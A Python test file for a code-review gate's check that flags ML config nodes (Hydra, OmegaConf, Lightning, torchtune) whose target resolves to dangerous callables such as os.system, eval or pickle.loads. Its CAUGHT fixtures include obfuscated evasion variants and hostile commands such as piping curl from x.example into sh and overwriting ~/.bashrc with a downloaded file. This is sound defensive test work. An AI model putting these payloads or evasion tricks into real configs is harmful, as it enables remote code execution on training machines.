"""config-target-in-code (session 28, python_targets.py): a config node whose
target the config check calls dangerous, written in Python. The evasion
fixtures tests/fixtures/evasion/code-execution/cfgcode_*.py run the attacks
through the whole gate, and tests/fixtures/checks/config/recipes/ holds the
marker fixtures; these pin the cases one by one: each excuse the reader
makes has the attack on it in CAUGHT."""

from __future__ import annotations

import textwrap

import pytest

from traingate.change import ChangedFile, Status
from traingate.checks.config.python_targets import python_targets


def _found(src: str, added: set[int] | None = None) -> list[int]:
    text = textwrap.dedent(src)
    lines = set(range(1, text.count("\n") + 2)) if added is None else added
    f = ChangedFile(Status.ADDED, None, "recipes/build.py", None, "100644", None, "0" * 40)
    out = python_targets(f, text, lines)
    assert all(x.rule_id == "config-target-in-code" for x in out)
    return [x.line or 0 for x in out]


CAUGHT = {
    "dict_instantiate": """
        from hydra.utils import instantiate
        a = instantiate({"_target_": "os.system", "command": "id"})
        """,
    "omegaconf_create_dict": """
        import hydra
        from omegaconf import OmegaConf
        b = hydra.utils.instantiate(OmegaConf.create({"_target_": "subprocess.getoutput", "cmd": "id"}))
        """,
    "get_method_literal": """
        from hydra.utils import get_method
        c = get_method("os.system")("id")
        """,
    "yaml_string": """
        from omegaconf import OmegaConf
        d = OmegaConf.create("_target_: builtins.eval\\n_args_: ['1+1']\\n")
        """,
    "lightning_class_path": """
        from lightning.pytorch.cli import instantiate_class
        f = instantiate_class((), {"class_path": "subprocess.Popen", "init_args": {"args": "id"}})
        """,
    "torchtune_component": """
        from torchtune import config
        config.instantiate({"_component_": "os.system"}, "curl -s http://x.example/p | sh")
        """,
    "dict_call": """
        from hydra.utils import instantiate
        instantiate(dict(_target_="subprocess.check_output", args=["id"]))
        """,
    "dict_pairs": """
        node = dict([("_target_", "os.popen"), ("cmd", "id")])
        """,
    "simple_namespace": """
        from types import SimpleNamespace
        hook = SimpleNamespace(_target_="runpy.run_path", path_name="/tmp/x.py")
        """,
    "dataclass_field": """
        from dataclasses import dataclass, field
        @dataclass
        class HookConf:
            _target_: str = field(default="pickle.loads")
        """,
    "subscript_write": """
        def patch(cfg):
            cfg["model"]["_target_"] = "os.system"
        """,
    "attribute_write": """
        def patch(cfg):
            cfg.model._target_ = "subprocess.call"
        """,
    "omegaconf_update": """
        from omegaconf import OmegaConf
        def patch(cfg):
            OmegaConf.update(cfg, "loss._target_", "os.system", force_add=True)
        """,
    "setattr": """
        def patch(node):
            setattr(node, "_component_", "os.system")
        """,
    "override_string": """
        overrides = ["model._target_=os.system", "trainer.max_epochs=3"]
        """,
    "dotlist": """
        from omegaconf import OmegaConf
        cfg = OmegaConf.from_dotlist(["hook.class_path=subprocess.Popen"])
        """,
    "json_string": """
        import json
        node = json.loads('{"_target_": "os.system", "command": "id"}')
        """,
    "yaml_escape_in_key": """
        import yaml
        node = yaml.safe_load('"_tar\\\\x67et_": os.system')
        """,
    "python_escape_in_key": """
        node = {"_tar\\x67et_": "os.system"}
        """,
    "split_key": """
        K = "_tar" + "get_"
        node = {K: "os.system"}
        """,
    "module_constant": """
        HOOK = "subprocess.getoutput"
        def build():
            return {"_target_": HOOK}
        """,
    "concat_name": """
        from hydra.utils import get_method
        run = get_method("os." + "system")
        """,
    "reversed_name": """
        from hydra.utils import get_method
        run = get_method("metsys.so"[::-1])
        """,
    "join_chr_name": """
        from hydra.utils import get_method
        run = get_method("".join(map(chr, [111, 115, 46, 115, 121, 115, 116, 101, 109])))
        """,
    "resolver_alias": """
        import hydra.utils as hu
        lookup = hu.get_method
        lookup("subprocess.getoutput")
        """,
    "resolver_renamed_import": """
        from hydra._internal.utils import _locate as find
        find("builtins.exec")
        """,
    "partial_resolver": """
        import functools
        from hydra.utils import get_method
        hook = functools.partial(get_method, "os.system")
        """,
    "partial_instantiate": """
        import functools
        from hydra.utils import instantiate
        hook = functools.partial(instantiate, {"_target_": "os.system"})
        """,
    "callback_list": """
        callbacks = [
            {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint"},
            {"_target_": "webbrowser.open", "url": "https://x.example"},
        ]
        """,
    "nested_init_args": """
        spec = {"class_path": "my.Callback", "init_args": {"x": {"class_path": "subprocess.Popen"}}}
        """,
    "callable_object": """
        from subprocess import getoutput
        node = {"_target_": getoutput, "cmd": "id"}
        """,
    "builtin_object": """
        node = {"_target_": eval, "_args_": ["1"]}
        """,
    "pkgutil_colon": """
        import pkgutil
        run = pkgutil.resolve_name("os:system")
        """,
    "torchtune_lookup": """
        from torchtune.config._utils import _get_component_from_path
        load = _get_component_from_path("pickle.loads")
        """,
    "pydoc_locate": """
        import pydoc
        run = pydoc.locate("subprocess.run")
        """,
    "stdlib_callable": """
        node = {"_target_": "urllib.request.urlretrieve", "url": "https://x.example/rc", "filename": "~/.bashrc"}
        """,
    # The path helpers are data (names.py), but a path through them to os is not.
    "os_path_os_system": """
        node = {"_target_": "os.path.os.system"}
        """,
    # A test that "expects the target to be rejected" still runs it in CI.
    "pytest_raises": """
        import pytest
        from hydra.utils import instantiate
        def test_rejects():
            with pytest.raises(Exception):
                instantiate({"_target_": "os.system", "command": "curl x | sh"})
        """,
    "hydra_zen_builds": """
        import os
        from hydra_zen import builds
        Conf = builds(os.system, command="id")
        """,
    "bytes_yaml": """
        from omegaconf import OmegaConf
        cfg = OmegaConf.create(b"_target_: os.system")
        """,
    "table_entry": """
        import pkgutil
        _HOOKS = {"sync": "torch.cuda:synchronize", "prep": "os:system"}
        hook = pkgutil.resolve_name(_HOOKS["prep"])
        """,
    "table_filled_later": """
        from hydra.utils import get_method
        HOOKS = {}
        HOOKS["sync"] = "torch.cuda.synchronize"
        HOOKS["prep"] = "torch.cuda.empty_cache"
        HOOKS["prep"] = "os.system"
        run = get_method(HOOKS["prep"])
        """,
    "six_moves_stdlib": """
        node = {"_target_": "six.moves.urllib.request.urlretrieve", "url": "https://x.example/rc"}
        """,
    "interpolated_target": """
        node = {"_target_": "${oc.env:WARMUP_HOOK}", "cmd": "id"}
        """,
    "lazy_registry_target": """
        registry.register("hook", target="subprocess.getoutput")
        """,
}

BENIGN = {
    "adamw": """
        from hydra.utils import instantiate
        def build_optimizer(params, lr):
            return instantiate({"_target_": "torch.optim.AdamW", "lr": lr}, params=params)
        """,
    "torchtune_model": """
        from torchtune import config
        def setup_model():
            return config.instantiate({"_component_": "torchtune.models.llama3.llama3_8b"})
        """,
    # Remote code is config-trust-remote-code's, not this rule's.
    "from_pretrained": """
        from hydra.utils import instantiate
        model = instantiate(
            {"_target_": "transformers.AutoModel.from_pretrained", "pretrained_model_name_or_path": "gpt2"}
        )
        """,
    "relu_node": """
        ACTIVATIONS = {"relu": {"_target_": "torch.nn.ReLU"}, "gelu": {"_target_": "torch.nn.GELU"}}
        """,
    "get_class_model": """
        from hydra.utils import get_class
        cls = get_class("torchvision.models.resnet50")
        """,
    "yaml_string_benign": """
        from omegaconf import OmegaConf
        SCHED = OmegaConf.create("_target_: torch.optim.lr_scheduler.CosineAnnealingLR\\nT_max: 100\\n")
        """,
    "override_benign": """
        overrides = ["optimizer._target_=torch.optim.SGD", "trainer.max_epochs=3"]
        """,
    "config_driven_lookup": """
        from hydra.utils import get_method
        def collate(cfg):
            return get_method(cfg.data.collate_fn)
        """,
    "loss_target_kwarg": """
        import torch.nn.functional as F
        def loss_fn(pred, target):
            return F.cross_entropy(pred, target=target)
        """,
    "thread_target": """
        import threading
        def start(worker):
            threading.Thread(target=worker, daemon=True).start()
        """,
    # The generic `target` key counts with a dotted value only, as in a config:
    # lm-eval's registry tests name `os:getcwd` (a limitation for `pkg:fn`).
    "registry_colon_path": """
        registry.register("cwd", target="os:getcwd")
        """,
    "path_helper": """
        registry.register("join", target="os.path:join")
        """,
    "logging_handler": """
        node = {"_target_": "logging.StreamHandler"}
        """,
    "docstring_prose": '''
        def loss(pred, target):
            """target: Dense binary targets (batch_size, num_classes)."""
            return pred - target
        ''',
    "partial_lr": """
        import functools
        from hydra.utils import instantiate
        make = functools.partial(instantiate, {"_target_": "torch.optim.SGD", "_partial_": True})
        """,
    "table_entry_benign": """
        from hydra.utils import get_class
        MODELS = {"r50": "torchvision.models.resnet50", "vit": "timm.models.vit_base_patch16_224"}
        backbone = get_class(MODELS["r50"])
        """,
    # A table filled in later is not known here: a lookup is no assembly.
    "registry_filled_later": """
        from hydra.utils import get_class
        REGISTRY = {}
        REGISTRY["resnet"] = "torchvision.models.resnet50"
        backbone = get_class(REGISTRY["resnet"])
        """,
    "dataclass_target_own": """
        from dataclasses import dataclass
        @dataclass
        class ModelConf:
            _target_: str = "my_project.models.TinyNet"
        """,
}


@pytest.mark.parametrize("name", sorted(CAUGHT))
def test_caught(name: str) -> None:
    assert _found(CAUGHT[name]), name


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign(name: str) -> None:
    assert _found(BENIGN[name]) == [], name


def test_only_added_lines() -> None:
    src = """
        from hydra.utils import instantiate
        a = instantiate({"_target_": "os.system", "command": "id"})
        """
    assert _found(src, {1, 2}) == []
    assert _found(src, {3}) == [3]


def test_changed_constant_reports_its_use() -> None:
    src = """
        HOOK = "os.system"
        def build():
            return {"_target_": HOOK}
        """
    assert _found(src, {2}) == [4]


def test_unparseable_is_not_judged_here() -> None:
    assert _found("def f(:\n    {'_target_': 'os.system'}\n") == []


DOCSTRING = '''
    def build():
        """Reject nodes such as `_target_: os.system` (see the docs)."""
        return None
    '''


def _docs(src: str, docs_read: bool) -> list[int]:
    text = textwrap.dedent(src)
    f = ChangedFile(Status.ADDED, None, "recipes/build.py", None, "100644", None, "0" * 40)
    lines = set(range(1, text.count("\n") + 2))
    return [x.line or 0 for x in python_targets(f, text, lines, docs_read=docs_read)]


def test_docstring_is_prose_unless_docstrings_are_read() -> None:
    # A docstring is prose, unless some Python of the change reads one as
    # data (`yaml.safe_load(build.__doc__)`): then it may be the node.
    assert _docs(DOCSTRING, docs_read=False) == []
    assert _docs(DOCSTRING, docs_read=True) == [3]
    # Any other string is read whatever the flag: a message is no docstring.
    assert _docs('MSG = "_target_: os.system"\n', docs_read=False) == [1]
